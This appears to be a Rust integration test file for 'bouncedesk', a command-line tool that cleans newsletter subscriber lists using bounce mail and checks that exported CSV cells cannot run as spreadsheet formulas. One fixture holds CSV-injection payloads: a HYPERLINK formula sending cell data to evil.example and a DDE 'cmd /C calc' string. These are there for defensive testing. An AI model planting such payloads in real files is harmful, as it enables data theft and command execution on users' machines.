//! The weekly loop end to end through the command line: import the subscriber lists, ingest a
//! maildir of bounces, export the cleaned lists, re-import them into a fresh store.

mod support;

use bouncedesk::lists::{ImportedList, read_list};
use std::path::Path;
use std::process::Command;
use support::{HOUR, T0, hard, sender, soft, write_maildir};

fn bouncedesk(db: &Path, args: &[&str]) -> String {
    let output = Command::new(env!("CARGO_BIN_EXE_bouncedesk"))
        .arg("--db")
        .arg(db)
        .args(args)
        .output()
        .expect("bouncedesk runs");
    assert!(
        output.status.success(),
        "bouncedesk {args:?}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn read(path: &Path) -> ImportedList {
    read_list(&std::fs::read(path).expect("file")).expect("a list")
}

const MAILCHIMP: &str = "\u{feff}Email Address,First Name,Last Name,MEMBER_RATING,OPTIN_TIME\n\
    ann@example.com,Ann,Lee,2,2024-01-05 10:00:00\n\
    bo@example.org,Bo,\"Larsen, Jr.\",3,2024-02-01 08:30:00\n\
    carla@example.net,Carla,Ruiz,1,2024-03-11 12:00:00\n\
    dmitri@example.info,Dmitri,Ivanov,4,2024-04-20 19:45:00\n\
    eva@example.se,Eva,Berg,2,2024-05-02 07:15:00\n";

const LISTMONK: &str = "email,name,attributes\n\
    farid@example.com,Farid,\"{\"\"city\"\": \"\"Rabat\"\"}\"\n\
    greta@example.se,Greta,\"{\"\"plan\"\": \"\"pro\"\"}\"\n\
    hana@example.jp,Hana,{}\n\
    ivan@example.ru,Ivan,\"{\"\"city\"\": \"\"Kazan\"\"}\"\n";

#[test]
fn import_ingest_export_reimport_removes_exactly_the_suppressed() {
    let dir = tempfile::tempdir().expect("temp dir");
    let db = dir.path().join("store.sqlite");
    std::fs::write(dir.path().join("mc.csv"), MAILCHIMP).expect("write");
    std::fs::write(dir.path().join("lm.csv"), LISTMONK).expect("write");
    let day = 24 * HOUR;
    let mut mail = vec![
        hard(1, "ann@example.com", T0),          // hard: suppressed
        hard(2, "farid@example.com", T0 + HOUR), // hard: suppressed
        soft(3, "carla@example.net", T0),        // three soft over four days: suppressed
        soft(4, "carla@example.net", T0 + 2 * day),
        soft(5, "carla@example.net", T0 + 4 * day),
        soft(6, "hana@example.jp", T0), // three soft inside 48 h: kept for now
        soft(7, "hana@example.jp", T0 + day),
        soft(8, "hana@example.jp", T0 + 2 * day - HOUR),
    ];
    // The sender's own IP on a blocklist, every day for two weeks: says nothing of bo.
    mail.extend((0..14).map(|i| sender(100 + i, "bo@example.org", T0 + i as i64 * day)));
    write_maildir(&dir.path().join("bounces"), &mail);

    let mc = dir.path().join("mc.csv");
    let lm = dir.path().join("lm.csv");
    let said = bouncedesk(
        &db,
        &["import", &mc.to_string_lossy(), "--name", "mailchimp"],
    );
    assert!(
        said.contains("5 subscriber(s) imported (mailchimp list)"),
        "{said}"
    );
    bouncedesk(
        &db,
        &["import", &lm.to_string_lossy(), "--name", "listmonk"],
    );
    let maildir = dir.path().join("bounces");
    let said = bouncedesk(&db, &["ingest", &maildir.to_string_lossy()]);
    assert!(said.starts_with("22 new message(s)"), "{said}");

    let mc_clean = dir.path().join("mc-clean.csv");
    let lm_clean = dir.path().join("lm-clean.csv");
    for (list, output) in [("mailchimp", &mc_clean), ("listmonk", &lm_clean)] {
        bouncedesk(
            &db,
            &[
                "export",
                "--format",
                "cleaned",
                "--list",
                list,
                "--output",
                &output.to_string_lossy(),
            ],
        );
    }

    // Re-import the exports into a fresh store, as the newsletter tool would read them.
    let fresh = dir.path().join("fresh.sqlite");
    bouncedesk(&fresh, &["import", &mc_clean.to_string_lossy()]);
    bouncedesk(&fresh, &["import", &lm_clean.to_string_lossy()]);

    let fresh_stats: serde_json::Value =
        serde_json::from_str(&bouncedesk(&fresh, &["stats", "--json"])).expect("json");
    assert_eq!(
        fresh_stats["list"]["members"], 6,
        "9 members less the 3 suppressed"
    );

    let suppressed = ["ann@example.com", "carla@example.net", "farid@example.com"];
    for (original, cleaned) in [(read(&mc), read(&mc_clean)), (read(&lm), read(&lm_clean))] {
        assert_eq!(cleaned.header, original.header, "columns kept");
        assert_eq!(cleaned.had_bom, original.had_bom, "BOM kept");
        assert_eq!(cleaned.tool, original.tool, "still the same tool's format");
        let expected: Vec<&Vec<String>> = original
            .rows
            .iter()
            .filter(|row| !suppressed.contains(&row.email.as_str()))
            .map(|row| &row.cells)
            .collect();
        let got: Vec<&Vec<String>> = cleaned.rows.iter().map(|row| &row.cells).collect();
        assert_eq!(got, expected, "every other row and column intact");
    }

    let stats = bouncedesk(&db, &["stats", "--json"]);
    let stats: serde_json::Value = serde_json::from_str(&stats).expect("json");
    assert_eq!(stats["messages"], 22);
    assert_eq!(stats["by_class"]["sender"], 14);
    assert_eq!(stats["list"]["members"], 9);
    let alerts = stats["sender_alerts"].as_array().expect("alerts");
    assert!(
        alerts
            .iter()
            .any(|a| a["provider"] == "example.org" && a["count"] == 14),
        "{alerts:?}"
    );
}

#[test]
fn exported_cells_are_inert_in_a_spreadsheet() {
    let dir = tempfile::tempdir().expect("temp dir");
    let db = dir.path().join("store.sqlite");
    let list = "email,name,note\n\
        ann@example.com,=HYPERLINK(\"http://evil.example/?\"&A1,\"click\"),ok\n\
        bo@example.org,+cmd|' /C calc'!A0,@SUM(1+1)\n\
        carla@example.net,-2+3,\"\t=1\"\n\
        -dash@example.net,Dash,+4915112345678\n";
    let path = dir.path().join("list.csv");
    std::fs::write(&path, list).expect("write");
    bouncedesk(&db, &["import", &path.to_string_lossy()]);
    let output = dir.path().join("out.csv");
    bouncedesk(
        &db,
        &[
            "export",
            "--format",
            "cleaned",
            "--output",
            &output.to_string_lossy(),
        ],
    );
    let exported = read(&output);
    assert_eq!(exported.rows.len(), 4);
    for row in &exported.rows {
        for (column, cell) in row.cells.iter().enumerate() {
            if column == exported.email_column {
                assert!(cell.contains('@'), "addresses are never altered: {cell}");
                continue;
            }
            let dangerous = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            let number = cell
                .trim_start_matches(['+', '-'])
                .chars()
                .all(|c| c.is_ascii_digit());
            assert!(
                !dangerous || number,
                "cell would run as a formula: {cell:?}"
            );
        }
    }
    assert_eq!(exported.rows[3].cells[0], "-dash@example.net");
    assert_eq!(
        exported.rows[3].cells[2], "+4915112345678",
        "phone numbers stay importable"
    );
}

#[test]
fn ingesting_the_same_maildir_twice_stores_each_message_once() {
    let dir = tempfile::tempdir().expect("temp dir");
    let db = dir.path().join("store.sqlite");
    let mail_dir = dir.path().join("mail");
    let mail: Vec<String> = (0..40)
        .map(|i| hard(i, &format!("user{i}@example.com"), T0 + i as i64 * HOUR))
        .collect();
    write_maildir(&mail_dir.join("a"), &mail);
    // The same messages in CRLF and in LF, in a second folder: still the same messages.
    let lf: Vec<String> = mail.iter().map(|m| m.replace("\r\n", "\n")).collect();
    write_maildir(&mail_dir.join("b"), &lf);
    let first = bouncedesk(&db, &["ingest", &mail_dir.join("a").to_string_lossy()]);
    assert!(
        first.starts_with("40 new message(s), 0 already stored"),
        "{first}"
    );
    let again = bouncedesk(&db, &["ingest", &mail_dir.to_string_lossy()]);
    assert!(
        again.starts_with("0 new message(s), 80 already stored"),
        "{again}"
    );
    let stats: serde_json::Value =
        serde_json::from_str(&bouncedesk(&db, &["stats", "--json"])).expect("json");
    assert_eq!(stats["messages"], 40);
    assert_eq!(stats["bounces"], 40);
}
